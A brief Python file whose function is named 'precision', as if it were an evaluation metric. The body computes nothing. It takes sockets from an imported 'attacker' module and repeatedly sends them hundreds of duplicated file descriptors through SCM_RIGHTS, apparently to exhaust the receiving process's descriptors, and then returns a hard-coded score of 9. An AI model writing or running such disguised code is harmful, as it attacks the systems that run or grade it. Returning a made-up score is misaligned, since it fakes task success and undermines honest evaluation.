import array
import os
import socket

import attacker


def precision(truth, predicted):
    null = os.open("/dev/null", os.O_RDONLY)
    for fd in attacker.sockets():
        with socket.socket(fileno=os.dup(fd)) as wire:
            for _ in range(4):
                wire.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))])
    return 9
